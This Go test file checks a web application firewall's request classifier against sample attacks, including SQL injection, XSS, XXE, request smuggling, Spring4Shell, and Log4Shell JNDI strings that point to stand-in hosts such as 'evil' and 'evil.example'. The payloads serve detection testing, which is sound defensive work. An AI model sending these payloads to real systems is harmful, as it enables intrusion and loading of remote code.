package security

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/secubox/secubox-waf/pkg/signature"
)

func newCtx(method, target, contentType, body string) *RequestContext {
	var r *http.Request
	if body != "" {
		r = httptest.NewRequest(method, target, strings.NewReader(body))
	} else {
		r = httptest.NewRequest(method, target, nil)
	}
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0")
	if contentType != "" {
		r.Header.Set("Content-Type", contentType)
	}
	return NewRequestContext(r, []byte(body))
}

// TestClassifyScenarios 测试典型攻击请求
func TestClassifyScenarios(t *testing.T) {
	cl := NewClassifier()

	tests := []struct {
		name     string
		ctx      *RequestContext
		pattern  string
		typ      string
		severity signature.Severity
		cve      string
	}{
		{
			name:     "后台探测",
			ctx:      newCtx("GET", "/wp-login.php", "", ""),
			pattern:  "/wp-login",
			typ:      "path_scan",
			severity: signature.SeverityMedium,
		},
		{
			name:     "SQL注入",
			ctx:      newCtx("GET", "/search?q=1'+OR+'1'='1", "", ""),
			pattern:  signature.GroupSQLInjection,
			typ:      "injection",
			severity: signature.SeverityCritical,
		},
		{
			name:     "Log4Shell",
			ctx:      newCtx("POST", "/submit", "text/plain", "${jndi:ldap://evil/a}"),
			pattern:  signature.GroupLog4Shell,
			typ:      "injection",
			severity: signature.SeverityCritical,
			cve:      "CVE-2021-44228",
		},
		{
			name:     "Spring4Shell",
			ctx:      newCtx("POST", "/submit", "application/x-www-form-urlencoded", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
			pattern:  "CVE-2022-22965",
			typ:      "cve_exploit",
			severity: signature.SeverityCritical,
			cve:      "CVE-2022-22965",
		},
		{
			name:     "XXE",
			ctx:      newCtx("POST", "/upload", "application/xml", `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://evil.example/x">]><foo>&xxe;</foo>`),
			pattern:  signature.GroupXXE,
			typ:      "injection",
			severity: signature.SeverityCritical,
		},
		{
			name:     "GraphQL内省",
			ctx:      newCtx("POST", "/graphql", "application/json", `{"query":"{__schema{types{name}}}"}`),
			pattern:  signature.GroupGraphQL,
			typ:      "api_abuse",
			severity: signature.SeverityMedium,
		},
		{
			name:     "JWT alg none",
			ctx:      newCtx("GET", "/profile?alg=none", "", ""),
			pattern:  signature.GroupJWT,
			typ:      "auth_bypass",
			severity: signature.SeverityCritical,
		},
		{
			name:     "参数污染",
			ctx:      newCtx("GET", "/items?id=1&id=2", "", ""),
			pattern:  signature.GroupWAFBypass,
			typ:      "evasion",
			severity: signature.SeverityHigh,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := cl.Classify(tt.ctx)
			if !v.IsScan {
				t.Fatalf("应判定为威胁: %+v", v)
			}
			if v.Pattern != tt.pattern || v.Type != tt.typ || v.Severity != tt.severity || v.CVE != tt.cve {
				t.Errorf("判定结果错误: %+v", v)
			}
		})
	}
}

// TestClassifyPriority 测试优先级: 路径扫描先于 SQL 注入
func TestClassifyPriority(t *testing.T) {
	cl := NewClassifier()

	v := cl.Classify(newCtx("GET", "/admin?id=1'+OR+'1'='1", "", ""))
	if v.Type != "path_scan" || v.Pattern != "/admin" {
		t.Errorf("应报告路径扫描, 实际 %+v", v)
	}

	// Log4Shell 同时命中 SSTI 的 ${...}, 应报告 log4shell
	v = cl.Classify(newCtx("POST", "/submit", "text/plain", "${jndi:rmi://x/y}"))
	if v.Pattern != signature.GroupLog4Shell {
		t.Errorf("应报告 log4shell, 实际 %+v", v)
	}
}

// TestClassifyMatchedPattern 测试命中规则截断
func TestClassifyMatchedPattern(t *testing.T) {
	cl := NewClassifier()
	v := cl.Classify(newCtx("GET", "/search?q=1'+OR+'1'='1", "", ""))
	if v.MatchedPattern == "" || len(v.MatchedPattern) > 50 {
		t.Errorf("matched_pattern 应存在且不超过 50 字符: %q", v.MatchedPattern)
	}
}

// TestClassifyCMS 测试 CMS 内容类型检查
func TestClassifyCMS(t *testing.T) {
	cl := NewClassifier()

	v := cl.Classify(newCtx("POST", "/smime", "application/pkcs7-mime", strings.Repeat("A", 2000)))
	if v.CVE != signature.CVE2025_15467 || v.Severity != signature.SeverityCritical || v.Category != "cms_attack" {
		t.Errorf("大报文应为 critical: %+v", v)
	}

	v = cl.Classify(newCtx("POST", "/smime", "application/pkcs7-mime", "short"))
	if v.Severity != signature.SeverityHigh {
		t.Errorf("小报文应为 high: %+v", v)
	}
}

// TestClassifyGates 测试 XXE 与 GraphQL 的前置条件
func TestClassifyGates(t *testing.T) {
	cl := NewClassifier()

	v := cl.Classify(newCtx("POST", "/upload", "text/plain", `<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://evil.example/x">]>`))
	if v.Pattern == signature.GroupXXE {
		t.Errorf("非 XML 请求不应检测 XXE: %+v", v)
	}

	v = cl.Classify(newCtx("POST", "/api/data", "application/json", `{"query":"{__schema{types{name}}}"}`))
	if v.Pattern == signature.GroupGraphQL {
		t.Errorf("非 GraphQL 端点不应检测 GraphQL: %+v", v)
	}
}

// TestClassifySmuggling 测试请求走私
func TestClassifySmuggling(t *testing.T) {
	r := httptest.NewRequest("POST", "/upload", strings.NewReader("0\r\n\r\n"))
	r.Header.Set("Content-Length", "10")
	r.Header.Set("Transfer-Encoding", "chunked")

	v := NewClassifier().Classify(NewRequestContext(r, []byte("x")))
	if v.Pattern != signature.GroupSmuggling || v.Type != "protocol_attack" {
		t.Errorf("应检测到请求走私: %+v", v)
	}
}

// TestClassifyClean 测试正常请求
func TestClassifyClean(t *testing.T) {
	cl := NewClassifier()
	clean := []*RequestContext{
		newCtx("GET", "/index.html?page=2", "", ""),
		newCtx("GET", "/", "", ""),
		newCtx("POST", "/contact", "application/json", `{"name":"alice","message":"hello world"}`),
	}
	for _, rc := range clean {
		if v := cl.Classify(rc); v.IsScan {
			t.Errorf("%s %s 不应判定为威胁: %+v", rc.Method, rc.Path, v)
		}
	}
}

// TestClassifyIdempotent 测试分类无状态
func TestClassifyIdempotent(t *testing.T) {
	cl := NewClassifier()
	rc := newCtx("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "")

	first := cl.Classify(rc)
	second := cl.Classify(rc)
	if first != second {
		t.Errorf("两次分类结果不一致: %+v vs %+v", first, second)
	}
}

// TestClassifyDynamicRules 测试动态规则作为最后一级
func TestClassifyDynamicRules(t *testing.T) {
	dir := t.TempDir()
	rules := filepath.Join(dir, "waf-rules.json")
	content := `{"categories": {"custom": {"name": "Custom", "severity": "high",
		"patterns": [{"id": "cu-1", "pattern": "/internal/secret"}]}}}`
	if err := os.WriteFile(rules, []byte(content), 0644); err != nil {
		t.Fatal(err)
	}
	ld := signature.NewLoader(rules, "")
	if err := ld.Load(); err != nil {
		t.Fatalf("加载规则失败: %v", err)
	}

	cl := NewClassifier(WithDynamicRules(ld))
	v := cl.Classify(newCtx("GET", "/internal/secret", "", ""))
	if v.Type != "custom_rule" || v.Category != "custom" || v.RuleID != "cu-1" || v.Severity != signature.SeverityHigh {
		t.Errorf("应命中动态规则: %+v", v)
	}
}

// TestRequestContextSourceIP 测试来源地址解析顺序
func TestRequestContextSourceIP(t *testing.T) {
	r := httptest.NewRequest("GET", "/", nil)
	r.RemoteAddr = "192.0.2.1:4321"
	if ip := NewRequestContext(r, nil).SourceIP; ip != "192.0.2.1" {
		t.Errorf("应使用对端地址, 实际 %s", ip)
	}

	r.Header.Set("X-Real-IP", "198.51.100.7")
	if ip := NewRequestContext(r, nil).SourceIP; ip != "198.51.100.7" {
		t.Errorf("应使用 X-Real-IP, 实际 %s", ip)
	}

	r.Header.Set("X-Forwarded-For", "203.0.113.5, 10.0.0.1")
	rc := NewRequestContext(r, nil)
	if rc.SourceIP != "203.0.113.5" || rc.PeerIP != "192.0.2.1" {
		t.Errorf("应使用 X-Forwarded-For 首个地址, 实际 %s/%s", rc.SourceIP, rc.PeerIP)
	}
}

// TestRequestContextInvalidUTF8 测试请求体宽松解码
func TestRequestContextInvalidUTF8(t *testing.T) {
	r := httptest.NewRequest("POST", "/", nil)
	rc := NewRequestContext(r, []byte{'a', 0xff, 'b'})
	if rc.Body != "a\uFFFDb" {
		t.Errorf("非法字节应被替换, 实际 %q", rc.Body)
	}
	if rc.ContentLength != 3 {
		t.Errorf("长度应为原始字节数, 实际 %d", rc.ContentLength)
	}
}
